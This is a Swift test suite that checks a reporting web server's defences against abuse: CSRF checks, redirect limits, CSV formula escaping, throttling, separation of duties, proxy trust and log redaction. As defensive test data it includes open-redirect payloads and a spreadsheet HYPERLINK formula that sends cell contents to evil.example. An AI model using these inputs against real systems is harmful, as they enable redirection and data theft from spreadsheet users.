// Requests that must not be forged or abused, against the running server: API writes with a
// browser's cookie need the CSRF token, anonymous requests store bounded rows, exports do not
// run formulas, redirects stay on the site, and the smaller controls (separation of duties,
// password changes, sign-out, text limits, proxies) hold.
import Foundation
#if canImport(FoundationNetworking)
import FoundationNetworking
#endif
import Testing

@Suite(.serialized) struct AbuseTests {
    func bearer(_ token: String) -> [String: String] { ["Authorization": "Bearer \(token)"] }

    /// A fresh sign-in form: its CSRF token and the cookie that carries it.
    func signInForm(_ server: ServerProcess) async throws -> (token: String, cookie: String) {
        let (_, form, headers) = try await server.request("GET", "/signin")
        let token = try #require(form.range(of: #"name="_csrf" value="[^"]+""#, options: .regularExpression).map { String(form[$0].dropFirst(20).dropLast()) })
        return (token, String((headers["set-cookie"] ?? "").split(separator: ";")[0]))
    }

    /// A cross-site page can make a browser send its cookie; it cannot read the CSRF token.
    @Test func apiWritesWithACookieNeedTheCSRFToken() async throws {
        let server = try ServerProcess(["--demo"])
        defer { server.stop() }
        try await server.ready()
        let (cookie, csrf) = try await server.session(for: "hanjiang")
        let body = #"[{"org":"hanjiang","indicator":"sales","period":"2021-09","value":"5.5"}]"#
        for route in ["/api/v1/values", "/api/v1/submissions", "/api/v1/projects/hj-kunyuan/blockers"] {
            let (plain, text, _) = try await server.request("POST", route, headers: ["Cookie": cookie, "Content-Type": "text/plain"], body: body)
            #expect(plain == 403 && text.contains("X-CSRF-Token"), "\(route): \(plain) \(text)")
        }
        let (foreign, _, _) = try await server.request("POST", "/api/v1/values", headers: ["Cookie": cookie, "Content-Type": "application/json",
                                                                                           "X-CSRF-Token": csrf, "Origin": "http://evil.example"], body: body)
        #expect(foreign == 403)
        let (own, ownBody, _) = try await server.request("POST", "/api/v1/values", headers: ["Cookie": cookie, "Content-Type": "application/json",
                                                                                              "X-CSRF-Token": csrf, "Origin": server.base], body: body)
        #expect(own == 200, "\(ownBody)")
        // Pages and API answers cannot be framed by another site.
        for path in ["/", "/api/v1/orgs", "/signin"] {
            let (_, _, headers) = try await server.get(path)
            #expect(headers["x-frame-options"] == "DENY", "\(path)")
        }
        let (_, page, pageHeaders) = try await server.get("/")
        #expect(pageHeaders["content-security-policy"]?.contains("frame-ancestors 'none'") == true && !page.isEmpty)
        // Who submitted what is not public; a reporter sees their own units only.
        let (anonymous, _, _) = try await server.get("/api/v1/submissions?period=2021-09")
        #expect(anonymous == 401)
        let (_, mine, _) = try await server.get("/api/v1/submissions?period=2021-09", headers: bearer(try server.token(for: "yizheng")))
        let orgs = Set(((try jsonObject(mine) as? [[String: Any]]) ?? []).compactMap { $0["org"] as? String })
        #expect(orgs == ["yizheng"] || orgs.allSatisfy { $0.hasPrefix("yz") || $0 == "yizheng" }, "\(orgs)")
        // After sign-in, only a path on this site: `/\t/evil.example` reads as //evil.example in browsers.
        for next in ["/\t/evil.example", "//evil.example", "https://evil.example", "/\\evil.example", "/%2F%2Fevil.example"] {
            let (token, csrfCookie) = try await signInForm(server)
            let (status, _, headers) = try await server.postForm("/signin", [("_csrf", token), ("login", "viewer"), ("password", "tiaodu-demo"), ("next", next)], cookies: csrfCookie)
            #expect(status == 303 && headers["location"] == "/", "\(next) → \(headers["location"] ?? "")")
        }
    }

    /// Anonymous requests write bounded rows: a login is stored at most 64 characters long and
    /// throttled attempts become one row a minute; text that a spreadsheet would run as a formula
    /// is exported as text; the log is archived by an administrator, never silently pruned.
    @Test func anonymousRequestsWriteBoundedRows() async throws {
        let server = try ServerProcess(["--demo"])
        defer { server.stop() }
        try await server.ready()
        func attempt(_ login: String) async throws -> Int {
            let (token, cookie) = try await signInForm(server)
            return try await server.postForm("/signin", [("_csrf", token), ("login", login), ("password", "wrong-password")], cookies: cookie).0
        }
        let formula = #"=HYPERLINK("http://evil.example/?"&A1,"Click")"#
        #expect(try await attempt(formula) == 401)
        let huge = String(repeating: "A", count: 10_000)
        var statuses: [Int] = []
        for _ in 0..<40 { statuses.append(try await attempt(huge)) }
        #expect(statuses.contains(429))
        let log = try Harness.run(["audit", "--action", "signin", "--limit", "1000", "--database", server.database], in: server.directory)
        let rows = log.stdout.split(separator: "\n")
        #expect(rows.count <= 8, "40 attempts wrote \(rows.count) rows")
        #expect(rows.allSatisfy { $0.count < 400 }, "a row holds at most 64 characters of a login")
        // Exports: the formula is text (a leading apostrophe), in the CLI and on /audit.
        let csv = try Harness.run(["audit", "--action", "signin.failed", "--csv", "--database", server.database], in: server.directory)
        #expect(csv.stdout.contains("\"'=HYPERLINK") && !csv.stdout.contains(",\"=HYPERLINK") && !csv.stdout.contains(",=HYPERLINK"), "\(csv.stdout)")
        let (_, web, _) = try await server.get("/audit?format=csv&action=signin.failed", headers: bearer(try server.token(for: "admin")))
        #expect(web.contains("'=HYPERLINK") && !web.contains(",\"=HYPERLINK"), "\(web.prefix(400))")
        // Retention: archived to a file first, then removed — and the archive itself is recorded.
        let archive = server.directory.appendingPathComponent("audit-archive.csv")
        let archived = try Harness.run(["audit", "--archive-before", "2200-01-01", "--out", archive.path, "--database", server.database], in: server.directory)
        #expect(archived.status == 0, "\(archived.stderr)")
        let file = try String(contentsOf: archive, encoding: .utf8)
        #expect(file.contains("signin.failed") && file.contains("'=HYPERLINK"))
        let left = try Harness.run(["audit", "--limit", "1000", "--database", server.database], in: server.directory)
        #expect(left.stdout.contains("audit.archive") && !left.stdout.contains("signin.failed"), "\(left.stdout.prefix(500))")
    }

    @Test func smallerControls() async throws {
        let server = try ServerProcess(["--demo"])
        defer { server.stop() }
        try await server.ready()
        let admin = try server.token(for: "admin")
        // Separation of duties: a user who is reporter and approver of 邗江 cannot approve what
        // they submitted themselves; another approver can.
        let added = try Harness.run(["user", "add", "hj-both", "--org", "hanjiang", "--role", "reporter,approver", "--database", server.database],
                                    in: server.directory, input: "both-roles-pw\n")
        #expect(added.status == 0, "\(added.stderr)")
        let both = try server.token(for: "hj-both")
        func move(_ action: String, _ token: String) async throws -> (Int, String) {
            let (status, body, _) = try await server.post("/api/v1/submissions", json: #"{"org":"hanjiang","period":"2021-09","action":"\#(action)"}"#, token: token)
            return (status, body)
        }
        #expect(try await move("submit", both).0 == 200)
        let own = try await move("approve", both)
        #expect(own.0 == 403 && (own.1.contains("本人") || own.1.contains("yourself")), "\(own.1)")
        #expect(try await move("approve", try server.token(for: "hanjiang-approver")).0 == 200)
        // A new password revokes the user's API tokens.
        let (before, _, _) = try await server.get("/api/v1/targets?year=2021", headers: bearer(both))
        #expect(before == 200)
        let changed = try Harness.run(["user", "passwd", "hj-both", "--database", server.database], in: server.directory, input: "a-new-password\n")
        #expect(changed.status == 0, "\(changed.stderr)")
        let (after, _, _) = try await server.post("/api/v1/values", json: "[]", token: both)
        #expect(after == 401)
        // Signed out means signed out, at once (no cached session reads on).
        let (cookie, csrf) = try await server.session(for: "viewer")
        #expect(try await server.request("GET", "/account", headers: ["Cookie": cookie]).0 == 200)
        _ = try await server.postForm("/signout", [("_csrf", csrf)], cookies: cookie)
        #expect(try await server.request("GET", "/account", headers: ["Cookie": cookie]).0 != 200)
        // Project text is bounded and codes are codes.
        func register(_ code: String, _ name: String) async throws -> (Int, String) {
            let row = #"[{"code":"\#(code)","name":"\#(name)","owner":"yizheng","category":"industry","list_level":"city","total_investment":"12","annual_plan":"3"}]"#
            let (status, body, _) = try await server.post("/api/v1/projects", json: row, token: admin)
            return (status, body)
        }
        #expect(try await register("ok-1", String(repeating: "名", count: 201)).0 == 400)
        for code in ["a/b", "a\\u0000b", "a\\u202Eb", "../x"] { #expect(try await register(code, "名称").0 == 400, "\(code)") }
        #expect(try await register("ok-1", "名称").0 == 200)
        // A chain named like a formula is text in the city's project figures sheet.
        let chained = #"[{"code":"ok-2","name":"名称","owner":"yizheng","category":"industry","list_level":"city","total_investment":"12","annual_plan":"3","chain":"=1+2"}]"#
        #expect(try await server.post("/api/v1/projects", json: chained, token: admin).0 == 200)
        let (_, sheet, _) = try await server.get("/api/v1/project-figures?period=2021-09&format=csv", headers: bearer(admin))
        #expect(sheet.contains("'=1+2") && !sheet.contains(",=1+2"), "\(sheet.suffix(300))")
        // Every write says which rows it wrote; a unit moved under another parent keeps its before and after.
        let (wrote, _, _) = try await server.post("/api/v1/values", json: #"[{"org":"baoying","indicator":"sales","period":"2021-09","value":"3.25"}]"#, token: admin)
        #expect(wrote == 200)
        let writes = try Harness.run(["audit", "--action", "write.values", "--database", server.database], in: server.directory)
        #expect(writes.stdout.contains("baoying/sales/2021-09"), "\(writes.stdout.prefix(300))")
        let orgs = server.directory.appendingPathComponent("orgs.csv")
        try "code,name,parent,kind\nhj-yangshou,杨寿镇,jiangdu,town\n".write(to: orgs, atomically: true, encoding: .utf8)
        // Published figures rest on the tree: a move needs an admin's stated reason.
        let refusedMove = try Harness.run(["import", "orgs", orgs.path, "--lang", "en", "--database", server.database], in: server.directory)
        #expect(refusedMove.status == 1 && refusedMove.stderr.contains("parent"), "\(refusedMove.stderr)")
        #expect(try Harness.run(["import", "orgs", orgs.path, "--unlock-reason", "区划调整", "--database", server.database], in: server.directory).status == 0)
        let moved = try Harness.run(["audit", "--action", "org.edit", "--database", server.database], in: server.directory)
        #expect(moved.stdout.contains("parent=hanjiang") && moved.stdout.contains("parent=jiangdu"), "\(moved.stdout)")
    }

    /// Behind a reverse proxy the client is the proxy's X-Forwarded-For — only from a configured proxy.
    @Test func throttlingBehindAProxy() async throws {
        for trusted in [false, true] {
            let server = try ServerProcess(["--demo"] + (trusted ? ["--trusted-proxy", "127.0.0.1"] : []))
            defer { server.stop() }
            try await server.ready()
            let (token, cookie) = try await signInForm(server)
            var request = URLRequest(url: URL(string: server.base + "/signin")!)
            request.httpMethod = "POST"
            request.setValue("application/x-www-form-urlencoded", forHTTPHeaderField: "Content-Type")
            request.setValue(cookie, forHTTPHeaderField: "Cookie")
            request.setValue("198.51.100.7, 203.0.113.9", forHTTPHeaderField: "X-Forwarded-For")
            request.httpBody = Data("_csrf=\(token)&login=nobody&password=x".utf8)
            _ = try await URLSession(configuration: .ephemeral, delegate: NoRedirects(), delegateQueue: nil).data(for: request)
            let log = try Harness.run(["audit", "--action", "signin.failed", "--database", server.database], in: server.directory)
            #expect(log.stdout.contains(trusted ? "203.0.113.9" : "127.0.0.1"), "\(log.stdout)")
            if !trusted { #expect(!log.stdout.contains("203.0.113.9"), "the header is not believed from anybody") }
        }
    }

    /// Load degrades cleanly: bodies over the cap get 413, bad batches list their first hundred
    /// problems and count the rest, a CLI import waits out a busy database and then says so in
    /// plain words, having written nothing.
    @Test func loadDegradesCleanly() async throws {
        let server = try ServerProcess(["--demo", "--max-body-mb", "1"])
        defer { server.stop() }
        try await server.ready()
        let token = try server.token(for: "hanjiang")
        let big = "[" + Array(repeating: #"{"org":"hanjiang","indicator":"sales","period":"2021-09","value":"1"}"#, count: 20_000).joined(separator: ",") + "]"
        let (tooLarge, _, _) = try await server.post("/api/v1/values", json: big, token: token)
        #expect(tooLarge == 413)
        let bad = "[" + (1...300).map { #"{"org":"hanjiang","indicator":"sales","period":"2021-09","value":"x\#($0)"}"# }.joined(separator: ",") + "]"
        let (refused, body, _) = try await server.post("/api/v1/values", json: bad, token: token)
        #expect(refused == 400)
        let issues = (try jsonObject(body) as? [String: Any])?["issues"] as? [[String: Any]]
        #expect(issues?.count == 100)
        #expect(body.contains("499 more") || body.contains("499处"), "the rest are counted (300 bad values, 299 repeated keys): \(body.prefix(200))")
        // An oversized field is not echoed back whole.
        let (long, longBody, _) = try await server.post("/api/v1/values", json: #"[{"org":"hanjiang","indicator":"sales","period":"2021-09","value":"\#(String(repeating: "9x", count: 50_000))"}]"#, token: token)
        #expect(long == 400 && longBody.count < 2_000, "\(longBody.count) bytes")
        // The CLI: the first hundred problems, and how many more.
        let sheet = server.directory.appendingPathComponent("bad.csv")
        try ("org,indicator,period,value\n" + (1...500).map { "hanjiang,sales,2021-09,x\($0)" }.joined(separator: "\n") + "\n").write(to: sheet, atomically: true, encoding: .utf8)
        let cli = try Harness.run(["import", "values", sheet.path, "--lang", "en", "--database", server.database], in: server.directory)
        #expect(cli.status == 1 && cli.stderr.contains("899 more"), "\(cli.stderr.suffix(300))")
        #expect(cli.stderr.split(separator: "\n").count <= 103)
        // Another process holds the write lock past the busy timeout: a plain message, exit 3, nothing written.
        let path = String(server.database.dropFirst("sqlite:".count))
        let holder = Process()
        holder.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        holder.arguments = ["python3", "-c", "import sqlite3,time,sys; c=sqlite3.connect(sys.argv[1], isolation_level=None); c.execute('BEGIN IMMEDIATE'); print('held', flush=True); time.sleep(30)", path]
        let out = Pipe()
        holder.standardOutput = out
        try holder.run()
        _ = out.fileHandleForReading.availableData
        try "org,indicator,period,value\nhanjiang,sales,2021-09,42.5\n".write(to: sheet, atomically: true, encoding: .utf8)
        // The server's writer waits out the same lock, then answers 503 with Retry-After, not 500.
        async let served = server.post("/api/v1/values", json: #"[{"org":"hanjiang","indicator":"sales","period":"2021-09","value":"42.5"}]"#, token: token)
        let busy = try Harness.run(["import", "values", sheet.path, "--database", server.database], in: server.directory)
        let (serverStatus, _, serverHeaders) = try await served
        #expect(serverStatus == 503 && serverHeaders["retry-after"] != nil, "\(serverStatus)")
        holder.waitUntilExit()
        #expect(busy.status == 3 && busy.stderr.contains("busy") && busy.stderr.contains("nothing was written"), "\(busy.status) \(busy.stderr)")
        let (_, values, _) = try await server.get("/api/v1/values?org=hanjiang&indicator=sales&from=2021-09&to=2021-09", headers: bearer(token))
        #expect(!values.contains("42.5"))
    }

    /// `--log-level info`: a line per request with method, path, status, duration and user — never
    /// a query string, a token or a password.
    @Test func requestsAreLoggedWithoutSecrets() async throws {
        let server = try ServerProcess(["--demo", "--log-level", "info"])
        defer { server.stop() }
        try await server.ready()
        let token = try server.token(for: "hanjiang")
        _ = try await server.get("/api/v1/targets?year=2021&password=hunter2", headers: bearer(token))
        let (_, form, headers) = try await server.request("GET", "/signin")
        let csrf = try #require(form.range(of: #"name="_csrf" value="[^"]+""#, options: .regularExpression).map { String(form[$0].dropFirst(20).dropLast()) })
        _ = try await server.postForm("/signin", [("_csrf", csrf), ("login", "viewer"), ("password", "wrong-secret-42")],
                                      cookies: String((headers["set-cookie"] ?? "").split(separator: ";")[0]))
        try await Task.sleep(nanoseconds: 300_000_000)
        let log = try String(contentsOf: server.log, encoding: .utf8)
        #expect(log.contains("method=GET") && log.contains("path=/api/v1/targets") && log.contains("status=200") && log.contains("user=hanjiang"), "\(log.suffix(600))")
        #expect(log.contains("path=/signin") && log.contains("status=401"))
        #expect(!log.contains(token) && !log.contains("hunter2") && !log.contains("wrong-secret-42"), "no secret in the log")
    }
}
